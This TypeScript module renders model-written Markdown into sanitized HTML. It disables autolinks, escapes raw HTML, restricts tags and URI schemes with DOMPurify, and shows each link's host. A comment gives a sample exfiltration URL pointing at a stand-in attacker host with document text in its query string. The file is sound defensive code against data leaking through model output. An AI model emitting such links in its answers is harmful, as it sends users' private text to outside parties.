// Answers are Markdown written by a model: render them, but never let raw HTML or script through. Raw HTML in the
// source is shown as text, and DOMPurify cleans whatever the renderer produced. Only explicit Markdown links become
// links: the backend keeps those only for its OUTPUT_LINK_HOSTS, and a bare URL it leaves as text stays text here.
import DOMPurify from "dompurify";
import { Marked } from "marked";

const marked = new Marked({
  gfm: true,
  breaks: true,
  async: false,
  tokenizer: {
    /** No GFM autolinks: `https://evil.example/?d=<document text>` written as plain text is not made clickable. */
    url() {
      return undefined;
    },
    /** Nor `<https://...>` autolinks. */
    autolink() {
      return undefined;
    },
  },
  renderer: {
    /** Raw HTML blocks and inline tags are escaped, not rendered. */
    html({ text }) {
      return escapeHtml(text);
    },
  },
});

/** Safe HTML for a Markdown answer; links open outside the pane and say where they go ("the report (example.com)"),
 * so words chosen by a model cannot hide a link's destination. */
export function renderMarkdown(markdown: string): string {
  const html = marked.parse(markdown) as string;
  const clean = DOMPurify.sanitize(html, {
    USE_PROFILES: { html: true },
    FORBID_TAGS: ["style", "form", "input", "button", "textarea", "select", "iframe", "img", "svg", "math"],
    FORBID_ATTR: ["style", "class", "id"],
    ALLOWED_URI_REGEXP: /^(?:https?:|mailto:)/i,
    RETURN_DOM_FRAGMENT: true,
  });
  for (const link of clean.querySelectorAll("a")) {
    link.setAttribute("target", "_blank");
    link.setAttribute("rel", "noopener noreferrer");
    const host = /^https?:/i.test(link.href) ? new URL(link.href).hostname : "";
    if (host && !(link.textContent ?? "").toLowerCase().includes(host)) link.after(` (${host})`);
  }
  const box = document.createElement("div");
  box.append(clean);
  return box.innerHTML;
}

/** Escape the five characters that matter in HTML text and attributes. */
export function escapeHtml(text: string): string {
  return text.replace(/[&<>"']/g, (c) => ({ "&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&#39;" })[c] as string);
}
